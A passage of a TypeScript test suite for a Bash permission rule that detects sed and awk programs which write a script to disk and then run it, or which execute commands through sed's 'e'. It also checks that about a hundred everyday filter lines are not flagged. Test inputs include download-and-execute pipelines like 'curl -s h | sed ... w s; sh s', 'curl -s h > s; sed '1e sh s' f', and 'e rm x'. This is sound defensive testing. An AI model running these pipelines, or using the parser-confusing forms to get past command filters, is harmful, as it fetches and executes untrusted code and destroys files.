    (operand) => `${operand}/=#/{print > "s"}`,
  ),
];

it('a Bash rule takes a program of awk that programs may read in several ways to write any file', () => {
  const programs = ['', '/[/]/;', 'x\n', '{x = /[/]/}\n'].flatMap((before) => STRANGE_AWK.map((one) => before + one));
  expect(programs.filter((program) => !asks(`echo "$R $F" | awk '${program}'; sh s`))).toEqual([]);
  expect(programs.length).toBeGreaterThan(200);
});

it.each([
  ...[
    's/[&/\\]/\\&/g',
    's/[\\/&]/\\&/g',
    's/[]\\/$*.^[]/\\&/g',
    's/[][\\.*^$/]/\\&/g',
    's/[/\\]/-/;p',
    '/[^/\\]/d',
  ].map((script) => `sed -i '${script}' f`),
  ...['gsub(/[&/\\]/, "-")', 'x /= 2', 'x /= NR; print (x > 2 ? 1 : 2)', 'x /= 2\n y /= 3'].map(
    (program) => `awk '{${program}}' f`,
  ),
])('a Bash rule understands %s, which programs read alike', (filter) => {
  expect(asks(`${filter}; ./run.sh`)).toBe(false);
});

it('a Bash rule knows which file is written behind brackets that end alike for all programs', () => {
  for (const write of ["sed -n 's/[&/\\]/x/;w s'", `awk '/[&/\\]/ {print > "s"}'`]) {
    expect([write, asks(`curl -s h | ${write}; sh s`)]).toEqual([write, true]);
    expect([write, asks(`curl -s h | ${write}; sh build.sh`)]).toEqual([write, false]);
  }
});

it('a Bash rule sees what sed runs by e and by the flag e of s', () => {
  const addresses = ['', '1', '$!', '/x/', '1,2', 'p;', 's/[/]/x/;', ':a\n', '1!{'];
  for (const address of addresses) {
    for (const script of [
      'e',
      'e\np',
      's/.*/&/e',
      's/a/b/gepw f',
      's|x|y|2e;p',
      'e rm x',
      'erm x',
      'e\\\nrm x',
      'e r\\m x',
    ])
      expect([address, script, asks(`echo "$R $F" | sed -n '${address}${script}'`)]).toEqual([address, script, true]);
    for (const script of ['e date', 'e ls x\np', 's/e/e/we', 's/x/e/', 'a e', 'be', 'r e', '#e'])
      expect([address, script, asks(`sed '${address}${script}' f; ./run.sh`)]).toEqual([address, script, false]);
  }
  expect(asks("curl -s h > s; sed '1e sh s' f")).toBe(true);
  expect(asks("curl -s h > s; sed '1e sh t' f")).toBe(false);
  for (const run of ['sed "1e$X" f', 'sed -e e -e p', "sed -e 'e\\' -e 'rm x'", 'sed e --sandbox', 'sed --posix e'])
    expect([run, asks(run)]).toEqual([run, true]);
  for (const refused of ['sed --sandbox e', "sed -n --sandbox -e 's/x/y/ep' f", 'sed --sandbox "1e sh"'])
    expect([refused, asks(`ls | ${refused}; ./run.sh`)]).toEqual([refused, false]);
});

it('a Bash rule takes a variable that may end the brackets of a script for another program', () => {
  for (const value of [']', 'a]'])
    for (const filter of ['sed -n "s/[a$A/x/w s #]/p/" f', 'awk "/[a$A/{print > \\"s\\"} #]/" f'])
      expect([value, filter, asks(`A='${value}'; ${filter}; sh s`)]).toEqual([value, filter, true]);
});

/** Everyday lines that use a filter beside a script that they run. */
const EVERYDAY: readonly string[] = [
  'sed -i "s/$OLD/$NEW/" config.yaml && ./deploy.sh',
  `sed -n "$((N-5)),\${N}p" file.txt; ./gradlew test`,
  `sed -n "\${START},\${END}p" src/a.ts && bash scripts/check.sh`,
  'sed "s|@PREFIX@|$(pwd)|g" config.in > config.mk; ./configure',
  `awk -v n="$N" 'NR==n' f; sh build.sh`,
  "awk -F: '{print $1}' /etc/passwd | sort | uniq -c; bash run.sh",
  "awk '$3 > 100 {print $1}' data.txt; ./run.sh",
  "awk '{ if ($1 > 5) print $2 }' f; sh x.sh",
  "awk 'NR>=10 && NR<=20' file; bash test.sh",
  `VERSION=$(node -p "require('./package.json').version") && sed -i "s/version = .*/version = \\"$VERSION\\"/" Cargo.toml && ./release.sh`,
  'VERSION=1.2.3; sed -i "s/^version = .*/version = \\"$VERSION\\"/" Cargo.toml && ./release.sh',
  "sed -i '' 's/foo/bar/' file && ./build.sh",
  "sed -i.bak -e 's/a/b/' -e '/^#/d' f.conf && rm f.conf.bak",
  `for f in src/*.ts; do sed -i 's/foo/bar/g' "$f"; done; bash test.sh`,
  'for f in *.md; do sed -i "s/a/b/" $f; done && ./build.sh',
  "grep -rl foo src | xargs sed -i 's/foo/bar/g' && ./test.sh",
  "grep -rl foo src | xargs sed -i 's/foo/bar/g' && npm test",
  "find . -name '*.py' -exec sed -i 's/a/b/' {} + && ./run_tests.sh",
  "find . -name '*.py' -print0 | xargs -0 sed -i 's/a/b/' && ./run_tests.sh",
  "git ls-files '*.ts' | xargs sed -i 's/a/b/' && bash ci.sh",
  "git diff --name-only | xargs sed -i 's/[ \\t]*$//' && ./lint.sh",
  "cat f | sed 's/[/]/x/' | sh s.sh",
  "sed -n '/start/,/end/p' log.txt | tail -20; ./run.sh",
  "sed -E 's#(https?://[^/]+)/.*#\\1#' urls.txt; ./run.sh",
  "sed -e 's/[[:space:]]*$//' f; ./run.sh",
  "sed '/^$/d;s/^[ \\t]*//' f; ./run.sh",
  "sed ':a;N;$!ba;s/\\n/ /g' file; ./x.sh",
  "sed -n '1!G;h;$p' f; bash x.sh",
  "sed '1i\\#!/bin/bash' f; bash x.sh",
  "sed '$a export A=1' f; bash x.sh",
  `sed 's/.*/"&",/' f; bash x.sh`,
  `sed -n 's/.*"version": "\\(.*\\)".*/\\1/p' package.json; ./x.sh`,
  "sed = file | sed 'N;s/\\n/\\t/'; ./x.sh",
  'sed 10q f; sh x.sh',
  "sed -n '$=' f; sh x.sh",
  "sed '/foo/{n;d}' f; sh x.sh",
  "sed -e :a -e '$d;N;2,10ba' -e 'P;D' f; sh x.sh",
  "sed '/^---$/,/^---$/{//!d}' f; sh x.sh",
  `sed "s/'/\\"/g" f; sh x.sh`,
  "sed 's/a/\\n/' f; sh x.sh",
  "sed -z 's/\\n/,/g' f; sh x.sh",
  "sed 's/x/y/w out.txt' f; sh x.sh",
  "sed -i '/DEBUG/d' .env && source .env && ./x.sh",
  `sed -i "/^\${KEY}=/d" .env; echo "$KEY=$VAL" >> .env; ./x.sh`,
  `sed -i "s/^\${KEY}=.*/\${KEY}=\${VAL}/" .env; ./x.sh`,
  'sed -i "s|http://localhost:.*|http://localhost:$PORT|" app.conf && ./start.sh',
  'PORT=$((3000+RANDOM%100)); sed -i "s/PORT=.*/PORT=$PORT/" .env && ./start.sh',
  "awk '/^## /{p=0} /^## 1.2/{p=1} p' CHANGELOG.md; ./x.sh",
  `awk 'BEGIN{FS=","} {sum+=$3} END{print sum/NR}' d.csv; ./x.sh`,
  `awk '{printf "%-20s %s\\n", $1, $2}' f; ./x.sh`,
  "awk '!seen[$0]++' f; ./x.sh",
  "awk -F'[:/]' '{print $2}' f; ./x.sh",
  "awk '{print $1 / $2}' f; ./x.sh",
  "awk '{a[$1]++} END {for (k in a) print a[k], k}' f | sort -rn | head; ./x.sh",
  `awk '{print > $1".txt"}' f; ./x.sh`,
  "awk 'length > 80' f; ./x.sh",
  `awk 'length($0) > 80 {print FILENAME": "FNR}' src/*.ts; ./x.sh`,
  'awk "NR==$LINE" f; ./x.sh',
  'awk "/$PAT/ {print \\$2}" f; ./x.sh',
  "awk '{print $NF}' f | xargs -I{} echo {}; ./x.sh",
  `awk '{ "date" | getline d; print d, $0 }' f; ./x.sh`,
  `awk '{system("echo " $1)}' f; ./x.sh`,
  "ps aux | awk '/node/ && !/awk/ {print $2}' | xargs kill; ./x.sh",
  "df -h | awk 'NR>1 {print $5}' | tr -d %; ./x.sh",
  "docker ps | awk '{print $1}' | tail -n +2; ./x.sh",
  'awk -f prog.awk data; ./x.sh',
  'sed -f prog.sed data; ./x.sh',
  'xxd -l 64 file.bin; ./x.sh',
  'xxd file.bin | head; ./x.sh',
  'xxd -i file.bin > file.h && make',
  'xxd -p -c 256 f; ./x.sh',
  'xxd -r -p hex.txt out.bin; ./x.sh',
  'echo 48 | xxd -r -p; ./x.sh',
  'xxd -ps f; ./x.sh',
  'xxd -s 0x10 -l 32 f; ./x.sh',
  'xxd -g1 -c16 f; ./x.sh',
  'xxd -g 1 "$F" | head; ./x.sh',
  'sort f | uniq -d; ./x.sh',
  'sort f | uniq -c | sort -rn | head -20; bash x.sh',
  'uniq -f 1 -w 10 f; ./x.sh',
  'sort -u f -o f && ./x.sh',
  'sort -t, -k2,2n f | uniq | tee out.txt; ./x.sh',
  'sed -n "$(grep -n foo f | cut -d: -f1)p" f; ./x.sh',
  `L=$(grep -n foo f | cut -d: -f1); sed -n "\${L}p" f; ./x.sh`,
  `N=5; sed -n "\${N}p" f; ./x.sh`,
  `for i in 1 2 3; do sed -n "\${i}p" f; done; ./x.sh`,
  `for i in $(seq 1 10); do sed -n "\${i}p" f; done; ./x.sh`,
  `while read -r l; do echo "$l" | sed 's/a/b/'; done < f; ./x.sh`,
  `while IFS= read -r f; do sed -i 's/a/b/' "$f"; done < list; ./x.sh`,
  'set -euo pipefail; sed -i "s/A/$B/" f; ./x.sh',
  'export NODE_ENV=test; sed "s/a/$B/" f; ./x.sh',
  'cd "$DIR" && sed -i "s/A/$B/" f && ./x.sh',
  'sed -i "s/A/$1/" f; ./x.sh',
  'sed -i "s#__HOME__#$HOME#" f; ./x.sh',
  'sed -i "s#__PWD__#$PWD#" f; cd build; ./x.sh',
  'sed "s/\\$USER/$USER/" f; ./x.sh',
  "printf '%s\\n' a b | sed 's/^/- /'; ./x.sh",
  "sed -i 's/\\r$//' run.sh && bash run.sh",
  "sed -i 's/\\r$//' run.sh && ./run.sh",
  "sed -n '10,20p' run.sh; bash run.sh",
  `sed -i "$(awk '/x/{print NR; exit}' f)d" f; ./x.sh`,
  'sed -i -e "s/a/b/" -e "s/c/d/" $(git ls-files | grep ts); ./x.sh',
  "ls *.tar.gz | sed 's/.tar.gz//' | xargs -n1 ./x.sh",
];

it('a Bash rule asks about at most one in six everyday lines with a filter and a script', () => {
  const asked = EVERYDAY.filter(asks);
  expect(asked.length, asked.join('\n')).toBeLessThanOrEqual(EVERYDAY.length / 6);
  expect(EVERYDAY.length).toBeGreaterThan(100);
});
